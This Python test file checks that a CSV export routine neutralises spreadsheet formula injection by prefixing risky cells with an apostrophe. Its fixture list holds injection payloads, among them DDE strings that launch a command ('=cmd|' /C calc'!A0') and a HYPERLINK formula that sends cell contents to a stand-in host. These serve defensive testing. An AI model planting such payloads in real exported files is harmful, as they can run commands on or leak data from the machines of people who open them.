"""CSV that a spreadsheet opens: every word as it was typed, none of them run."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from convene.exchange.data.spreadsheets import Cell, Listing, csv_bytes, harmless
from convene.typed import clean_text
from hostile import STRINGS

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "=",
    "-",
    "--5",
    "-5 percent",
    "+1 555 0100",
    "+15550100",
    "-1e5",
    "-٣",
    "\ttab",
)

DANGEROUS = re.compile(r"[\s\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠﹢﹣﹦﹫]|[\t\r\n]")
"""Written apart from the rule that it checks."""


def read(listing: Listing) -> list[list[str]]:
    data = csv_bytes(listing)
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def cell(value: Cell) -> str:
    return read(Listing("x", "X", ("Head",), ((value, "behind"),)))[1][0]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert cell(text) == f"'{clean_text(text)}"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Dana",
        "a=b",
        "1-2",
        "-3.5",
        "-3",
        "-0.25",
        "3",
        "'=1",
        '"=1"',
        "Meals - who pays?",
        "5+",
        "#1",
        *STRINGS,
    ],
)
def test_other_words_stay_as_they_are(text: str) -> None:
    assert cell(text) == clean_text(text)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (-3.5, "-3.5"),
        (-3, "-3"),
        (0, "0"),
        (11.0, "11.0"),
        (True, "yes"),
        (False, "no"),
        (None, ""),
        (date(2026, 11, 20), "2026-11-20"),
        (datetime(2026, 11, 20, 15, 30), "2026-11-20 15:30"),  # noqa: DTZ001  the wall clock there
        ((), ""),
        (("Data", "Skills"), "Data; Skills"),
        (("Data", "=1+1", "-2"), "Data; '=1+1; -2"),
    ],
)
def test_numbers_days_and_lists_say_themselves(value: Cell, shown: str) -> None:
    assert cell(value) == shown


@given(st.text() | st.builds(str.__add__, st.sampled_from(FORMULAS), st.text()) | st.sampled_from(FORMULAS))
def test_no_cell_begins_like_a_formula_and_every_one_reads_back(text: str) -> None:
    found, typed = cell(text), clean_text(text)
    assert found in {typed, f"'{typed}"}
    if re.fullmatch(r"-[0-9]+(\.[0-9]+)?", typed):
        assert found == typed
    else:
        assert not DANGEROUS.match(found)
    if text.isascii() and text.isprintable() and text.strip()[:1] not in set("=+-@"):
        assert found == text


@given(st.text())
def test_the_rule_taken_twice_adds_nothing(text: str) -> None:
    assert harmless(harmless(text)) == harmless(text)


@given(st.integers() | st.floats(allow_nan=False, allow_infinity=False))
def test_numbers_are_written_as_numbers(number: float) -> None:
    assert float(cell(number)) == float(number)


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_rows_and_columns_stay_in_place_whatever_is_in_them(rows: list[list[str]]) -> None:
    found = read(Listing("x", "X", ("=Head", "b"), tuple(map(tuple, rows))))
    assert found[0] == ["'=Head", "b"]
    assert [len(row) for row in found[1:]] == [2] * len(rows)


def test_lines_end_as_spreadsheets_expect() -> None:
    assert csv_bytes(Listing("x", "X", ("a", "b"), (("1", "2\n3"),))) == '\ufeffa,b\r\n1,"2\n3"\r\n'.encode()
